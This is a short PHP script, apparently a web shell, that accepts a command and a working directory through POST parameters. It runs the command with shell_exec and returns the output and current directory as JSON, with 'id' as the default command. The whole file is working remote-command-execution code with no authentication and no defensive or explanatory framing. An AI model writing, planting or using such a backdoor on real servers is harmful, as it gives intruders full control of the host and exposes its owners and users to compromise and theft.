<?php
session_start();
if (!empty($_POST['cwd'])) {
    chdir($_POST['cwd']);
}
$line = isset($_POST['line']) ? $_POST['line'] : 'id';
$result = shell_exec($line . ' 2>&1');
echo json_encode(array('cwd' => getcwd(), 'out' => $result));
